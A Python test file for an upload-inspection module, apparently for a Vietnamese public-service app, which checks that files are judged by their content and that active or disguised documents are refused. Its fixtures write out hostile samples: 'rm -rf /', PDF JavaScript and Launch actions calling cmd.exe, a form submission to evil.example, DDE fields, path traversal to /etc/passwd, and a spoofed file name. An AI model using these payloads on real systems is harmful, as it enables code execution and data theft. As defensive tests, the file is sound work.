"""What is taken for what, and what is not taken: judged by content, refused with the plain way to put it right."""

import io
from pathlib import Path

import pytest
import typst

from motcua.files import inspection, refusals
from motcua.files.inspection import DOCX, HEIC, JPEG, PDF, PNG, WEBP, XLSX
from tests.files import samples


def test_what_controls_offer_is_what_is_taken_and_said_in_one_place():
    assert {ending.removeprefix(".") for ending in inspection.ACCEPT.split(",")} == inspection.TAKEN_ENDINGS
    house = Path(inspection.__file__).parents[2]
    sources = [path for kind in ("*.py", "*.html", "*.js") for path in house.rglob(kind) if "vendor" not in path.parts]
    assert len(sources) > 500
    lists = [str(path.relative_to(house)) for path in sources if ".pdf,." in path.read_text(encoding="utf-8")]
    assert lists == []


def judge(content: bytes, name: str = "tep"):
    return inspection.judge(io.BytesIO(content), name=name, size=len(content))


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (samples.PDF, "đơn.pdf", PDF),
        (samples.PDF, "ĐƠN.PDF", PDF),
        (samples.JPEG, "anh.jpg", JPEG),
        (samples.JPEG, "anh.jpeg", JPEG),
        (samples.png(), "anh.png", PNG),
        (samples.HEIC, "IMG_0001.HEIC", HEIC),
        (samples.WEBP, "anh.webp", WEBP),
        (samples.docx(word__document="<w:document/>"), "don.docx", DOCX),
        (samples.xlsx(xl__workbook="<workbook/>"), "bang.xlsx", XLSX),
        (samples.PDF, "không có đuôi", PDF),
        (samples.PDF, "Đơn xin số 12.2026", PDF),
        (samples.JPEG + b"phone's own trailer", "anh.jpg", JPEG),
        (samples.docx(word___rels__document_DOT_xml_DOT_rels=samples.external("hyperlink")), "don.docx", DOCX),
    ],
)
def test_a_sound_paper_is_known_by_its_content(content, name, kind):
    verdict = judge(content, name)
    assert (verdict.kind, verdict.remark) == (kind, "")
    assert verdict.name.lower().endswith(kind.endings)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"MZ\x90\0" + b"\0" * 100, "chương trình Windows"),
        (b"\x7fELF" + b"\0" * 100, "chương trình Linux"),
        (b"#!/bin/sh\nrm -rf /\n", "tập lệnh"),
        (b"<!doctype html><script>alert(1)</script>", "trang web"),
        (b"\xef\xbb\xbf  <html>", "trang web"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "SVG"),
        (b"<?xml version='1.0'?><a/>", "XML"),
        (samples.archive(**{"don.pdf": samples.PDF}), "tệp nén"),
        (b"Rar!\x1a\x07\x01\x00" + b"\0" * 50, "tệp nén"),
        (b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "tệp nén"),
        (b"\x1f\x8b\x08" + b"\0" * 50, "tệp nén"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "kiểu cũ"),
        (b"GIF89a" + b"\0" * 50, ".gif"),
        (b"II*\0" + b"\0" * 50, ".tif"),
        (b"xin chao", "không rõ loại"),
        (b"\0" * 100, "không rõ loại"),
        (samples.office("presentationml.presentation.main"), "loại khác"),
    ],
)
def test_what_is_no_paper_is_called_by_its_name_and_not_taken(content, what):
    with pytest.raises(refusals.NotAccepted) as refusal:
        judge(content)
    assert what in str(refusal.value)
    assert "lưu giấy tờ thành PDF" in str(refusal.value)


def test_an_empty_file_is_not_taken():
    with pytest.raises(refusals.Empty, match="0 byte"):
        judge(b"", "don.pdf")


@pytest.mark.parametrize(
    ("content", "name", "right"),
    [
        (samples.JPEG, "don.pdf", ".jpg"),
        (samples.PDF, "anh.jpg", ".pdf"),
        (samples.PDF, "don.pdf.exe", ".pdf"),
        (samples.PDF, "don.html", ".pdf"),
        (samples.xlsx(), "don.docx", ".xlsx"),
    ],
)
def test_an_ending_that_lies_is_refused_with_the_right_one(content, name, right):
    with pytest.raises(refusals.OtherThanItsName, match=f"thành \\{right}"):
        judge(content, name)


@pytest.mark.parametrize(
    "content",
    [
        samples.PDF[:-10],
        samples.png(cut=4),
        samples.png(cut=20),
        samples.JPEG[:-2],
        samples.HEIC[:-1],
        samples.WEBP[:-1],
        samples.docx(word__document="x" * 1000)[:-30],
        samples.docx(word__document="x" * 1000)[:200],
    ],
)
def test_a_file_that_did_not_arrive_whole_is_not_taken(content):
    with pytest.raises(refusals.Damaged):
        judge(content)


# --- Documents that act -----------------------------------------------------------------------------------------------

ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


@pytest.mark.parametrize(
    "content",
    [
        samples.pdf(ACTION),
        samples.pdf(b"<</S/Java#53cript/JS(x)>>"),
        samples.pdf(b"<</S/#4a#61vaScript /JS 3 0 R>>"),
        samples.pdf(b"<</S/Launch/F(cmd.exe)>>"),
        samples.pdf(b"<</S /SubmitForm /F (http://evil.example)>>"),
        samples.pdf(b"<</AcroForm<</XFA 5 0 R>>>>"),
        samples.pdf(b"<</Subtype/RichMedia>>"),
        samples.pdf(samples.packed(ACTION)),
        samples.pdf(samples.packed(ACTION, about=b"/Type/ObjStm/Filter[/FlateDecode]")),
        samples.pdf(samples.packed(b"<</S/J#61vaScript>>")),
        samples.pdf(samples.packed(ACTION, about=b"/Type/Obj#53tm/Filter/FlateDecode")),
        samples.pdf(samples.packed(ACTION, about=b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")),
        samples.pdf(samples.packed(ACTION, about=b"/Type/ObjStm/Filter/LZWDecode")),
    ],
)
def test_a_pdf_that_acts_is_not_taken_however_it_hides_it(content):
    with pytest.raises(refusals.ActsByItself, match="Print to PDF"):
        judge(content, "don.pdf")


@pytest.mark.parametrize(
    "content",
    [
        samples.pdf(b"<</Title(Bai ve /JavaScriptCore va /Launcher)>>"),
        samples.pdf(b"<</S/GoTo/D[3 0 R/Fit]>>"),
        samples.pdf(samples.packed(b"<</Type/Page>>")),
        samples.pdf(b"<</Length 9>>\nstream\nq 1 0 0 Q\nendstream"),
    ],
)
def test_an_ordinary_pdf_is_taken(content):
    assert judge(content).remark == ""


def test_a_pdf_with_a_password_is_taken_with_a_remark():
    verdict = judge(samples.pdf(samples.packed(b"x"), trailer=b"/Encrypt 9 0 R"))
    assert "mật khẩu" in inspection.REMARKS[verdict.remark]


def test_a_pdf_with_attachments_is_taken_with_a_remark():
    assert judge(samples.pdf(b"<</Names<</EmbeddedFiles 4 0 R>>>>")).remark == "attachments"


def test_a_packed_bomb_is_read_only_so_far():
    judge(samples.pdf(samples.packed(b" " * 200_000_000)))


@pytest.mark.parametrize(
    "content",
    [
        samples.docx(word__vbaProject_DOT_bin=b"x"),
        samples.docx(word__activeX__activeX1=b"x"),
        samples.docx(word__embeddings__oleObject1_DOT_bin=b"x"),
        samples.xlsx(xl__macrosheets__sheet1="<x/>"),
        samples.office("wordprocessingml.document.macroEnabled.main"),
        samples.docx(word___rels__settings_DOT_xml_DOT_rels=samples.external("attachedTemplate")),
        samples.docx(word___rels__document_DOT_xml_DOT_rels=samples.external("oleObject")),
        samples.docx(word__document="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        samples.docx(word__document="<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"),
        samples.docx(word__header1='<w:fldSimple w:instr="DDE cmd"/>'),
        samples.xlsx(xl__externalLinks__externalLink1='<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    ],
)
def test_an_office_document_that_acts_is_not_taken(content):
    with pytest.raises(refusals.ActsByItself):
        judge(content)


def test_a_document_that_writes_about_dde_is_an_ordinary_one():
    assert judge(samples.docx(word__document="<w:t>Dư lượng DDE trong đất</w:t>")).kind is DOCX


def test_a_document_that_unpacks_to_gigabytes_is_not_taken():
    with pytest.raises(refusals.Damaged):
        judge(samples.docx(word__document=b"\0" * 310 * 2**20))


# --- Two files in one -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        samples.PDF + samples.archive(x="1"),
        samples.png() + samples.archive(x="1"),
        samples.JPEG + samples.archive(x="1"),
        b"\xff\xd8\xff\xe0\x00\x10" + samples.PDF + b"\xff\xd9",
        samples.archive(x="1") + samples.docx(),
    ],
)
def test_two_files_in_one_are_not_taken(content):
    with pytest.raises((refusals.TwoInOne, refusals.NotAccepted)):
        judge(content)


# --- Names ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../x", "x.pdf"),
        ("..\\..\\x.pdf", "x.pdf"),
        ("/etc/passwd", "passwd.pdf"),
        ("C:\\Users\\An\\Đơn.pdf", "Đơn.pdf"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("don\u202efdp.exe.pdf", "donfdp.exe.pdf"),
        ("\u200b\u200e", "tep.pdf"),
        ("", "tep.pdf"),
        ("...", "tep.pdf"),
        (".pdf", "pdf.pdf"),
        ("  Đơn   xin  .pdf", "Đơn xin .pdf"),
        ("Đơn xin.pdf", "Đơn xin.pdf"),
        ("x" * 500 + ".pdf", "x" * 116 + ".pdf"),
        ("đơn" * 100, ("đơn" * 100)[:116] + ".pdf"),
    ],
)
def test_a_name_is_shown_and_never_a_path(given, shown):
    assert inspection.display_name(given, PDF) == shown


def test_a_decomposed_name_is_composed():
    assert inspection.display_name("Đơn.pdf", PDF) == "Đơn.pdf"


# --- Real files -------------------------------------------------------------------------------------------------------


def test_spreadsheets_of_ministries_are_taken(shared_data: Path):
    found = sorted(shared_data.glob("procedures/raw/*/*.xlsx"))
    assert found
    for path in found:
        assert judge(path.read_bytes(), path.name).kind is XLSX, path.name


def test_a_printed_form_is_taken():
    assert judge(typst.compile(b"Giay tiep nhan"), "mau-01.pdf").kind is PDF
